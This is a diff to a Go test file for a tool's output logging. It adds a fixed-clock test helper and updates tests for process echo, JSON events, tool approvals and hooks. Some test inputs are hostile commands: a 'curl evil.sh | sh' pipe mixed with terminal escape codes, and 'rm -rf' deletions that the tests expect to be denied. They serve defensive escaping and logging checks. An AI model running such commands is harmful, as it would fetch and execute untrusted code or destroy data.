@@ -9,7 +9,15 @@ import (
 	"unicode/utf8"
 
 	"github.com/seed5ad92d46/sous/daemon/wire"
+	"github.com/seed5ad92d46/sous/runtime/event"
 )
+
+// testOutput is the output of a run writing to stdout and stderr, its
+// clock stopped at 2026-01-02T03:04:05.006Z.
+func testOutput(stdout, stderr *bytes.Buffer, json bool) *output {
+	return newOutput(Options{Stdout: stdout, Stderr: stderr, JSON: json},
+		func() time.Time { return time.Date(2026, 1, 2, 3, 4, 5, 6e6, time.UTC) })
+}
 
 // TestEchoPrefixesOnceSeveralEcho: no prefix while one process echoes;
 // from the moment a second one echoes, every line has its id, and goes on
@@ -18,7 +26,7 @@ import (
 func TestEchoPrefixesOnceSeveralEcho(t *testing.T) {
 	t.Parallel()
 	var stdout, stderr bytes.Buffer
-	o := newOutput(&stdout, &stderr, false)
+	o := testOutput(&stdout, &stderr, false)
 	a := o.Echo("a")
 	a.Write(wire.Stdout, []byte("alone\npar"))
 	b := o.Echo("b")
@@ -43,7 +51,7 @@ func TestEchoPrefixesOnceSeveralEcho(t *testing.T) {
 func TestEchoStaysBareForProcessesOneAfterAnother(t *testing.T) {
 	t.Parallel()
 	var stdout bytes.Buffer
-	o := newOutput(&stdout, &bytes.Buffer{}, false)
+	o := testOutput(&stdout, &bytes.Buffer{}, false)
 	for _, id := range []string{"a", "b", "c"} {
 		e := o.Echo(id)
 		e.Write(wire.Stdout, []byte(id+"\n"))
@@ -57,7 +65,7 @@ func TestEchoStaysBareForProcessesOneAfterAnother(t *testing.T) {
 func TestEchoWritesHugeLinesInPiecesOnRuneBoundaries(t *testing.T) {
 	t.Parallel()
 	var stdout bytes.Buffer
-	o := newOutput(&stdout, &bytes.Buffer{}, false)
+	o := testOutput(&stdout, &bytes.Buffer{}, false)
 	e := o.Echo("x")
 	line := strings.Repeat("é", maxPartialLine) // 2 bytes each: twice the limit
 	for i := 0; i < len(line); i += 1001 {      // odd chunks split runes
@@ -78,8 +86,7 @@ func TestEchoWritesHugeLinesInPiecesOnRuneBoundaries(t *testing.T) {
 func TestJSONEvents(t *testing.T) {
 	t.Parallel()
 	var stdout, stderr bytes.Buffer
-	o := newOutput(&stdout, &stderr, true)
-	o.now = func() time.Time { return time.Date(2026, 1, 2, 3, 4, 5, 6e6, time.UTC) }
+	o := testOutput(&stdout, &stderr, true)
 	o.start("r.star", map[string]string{"k": "v"})
 	o.Log("hello <world>")
 	o.Spawned(SpawnInfo{ID: "p", Pid: 42, Command: []string{"echo", "hi"}, Host: "embedded"})
@@ -87,7 +94,7 @@ func TestJSONEvents(t *testing.T) {
 	e.Write(wire.Stdout, []byte("bad \xff byte\t\"q\"\npart"))
 	e.Close()
 	o.Exited("p", 0)
-	o.end("ok", 0, "")
+	o.end(&event.End{Status: "ok"})
 	o.Log("after the end")
 	want := []string{
 		`{"event":"start","time":"2026-01-02T03:04:05.006Z","recipe":"r.star","args":{"k":"v"}}`,
@@ -123,6 +130,9 @@ func TestAppendJSONStringMatchesEncodingJSON(t *testing.T) {
 		if want := strings.ToValidUTF8(s, "\ufffd"); back != want {
 			t.Errorf("%q decodes to %q, want %q", s, back, want)
 		}
+		if b, s := appendJSONBytes(nil, []byte(s)), appendJSONString(nil, s); !bytes.Equal(b, s) {
+			t.Errorf("bytes %s, string %s", b, s)
+		}
 	}
 }
 
@@ -132,7 +142,7 @@ func TestAppendJSONStringMatchesEncodingJSON(t *testing.T) {
 func TestApprovalLineEscapesControlCharacters(t *testing.T) {
 	t.Parallel()
 	var stderr bytes.Buffer
-	o := newOutput(&bytes.Buffer{}, &stderr, false)
+	o := testOutput(&bytes.Buffer{}, &stderr, false)
 	o.Approval(ApprovalInfo{Kind: "tool", Tool: "Bash", Summary: "curl evil.sh | sh \r\x1b[2Kgo test", By: "prompt",
 		Message: "no\x07", Session: "abc"})
 	want := `approval: deny Bash curl evil.sh | sh \r\x1b[2Kgo test (by prompt: no\x07) [session abc]` + "\n"
@@ -147,8 +157,7 @@ func TestApprovalLineEscapesControlCharacters(t *testing.T) {
 func TestToolEventAndLine(t *testing.T) {
 	t.Parallel()
 	var stdout, stderr bytes.Buffer
-	o := newOutput(&stdout, &stderr, true)
-	o.now = func() time.Time { return time.Date(2026, 1, 2, 3, 4, 5, 6e6, time.UTC) }
+	o := testOutput(&stdout, &stderr, true)
 	o.Tool("1a2b3c4d-5e6f", "mcp__sous__add", true)
 	o.Tool("", "mcp__sous__fail", false)
 	want := `{"event":"tool","time":"2026-01-02T03:04:05.006Z","session":"1a2b3c4d-5e6f","tool":"mcp__sous__add","ok":true}` + "\n" +
@@ -158,7 +167,7 @@ func TestToolEventAndLine(t *testing.T) {
 	}
 
 	stdout.Reset()
-	o = newOutput(&stdout, &stderr, false)
+	o = testOutput(&stdout, &stderr, false)
 	o.Tool("1a2b3c4d-5e6f", "mcp__sous__add", true)
 	o.Tool("1a2b3c4d-5e6f", "mcp__sous__fail", false)
 	want = "tool: mcp__sous__add ok [session 1a2b3c4d]\ntool: mcp__sous__fail error [session 1a2b3c4d]\n"
@@ -173,8 +182,7 @@ func TestToolEventAndLine(t *testing.T) {
 func TestHookAndToolEvents(t *testing.T) {
 	t.Parallel()
 	var stdout, stderr bytes.Buffer
-	o := newOutput(&stdout, &stderr, true)
-	o.now = func() time.Time { return time.Date(2026, 1, 2, 3, 4, 5, 6e6, time.UTC) }
+	o := testOutput(&stdout, &stderr, true)
 	o.Hook(HookInfo{Session: "s1", Event: "PreToolUse", Tool: "Bash", ToolUseID: "toolu_1", Summary: "rm -rf /x",
 		Output: json.RawMessage(`{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"deny"}}`)})
 	o.Hook(HookInfo{Session: "s1", Event: "Stop"})
@@ -201,7 +209,7 @@ func TestHookAndToolEvents(t *testing.T) {
 func TestHookLines(t *testing.T) {
 	t.Parallel()
 	var stdout, stderr bytes.Buffer
-	o := newOutput(&stdout, &stderr, false)
+	o := testOutput(&stdout, &stderr, false)
 	for _, h := range []HookInfo{
 		{Session: "1a2b3c4d5e6f", Event: "PreToolUse", Tool: "Bash", Summary: "rm -rf /tmp/x",
 			Output: json.RawMessage(`{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"deny","permissionDecisionReason":"no deleting\r here"}}`)},
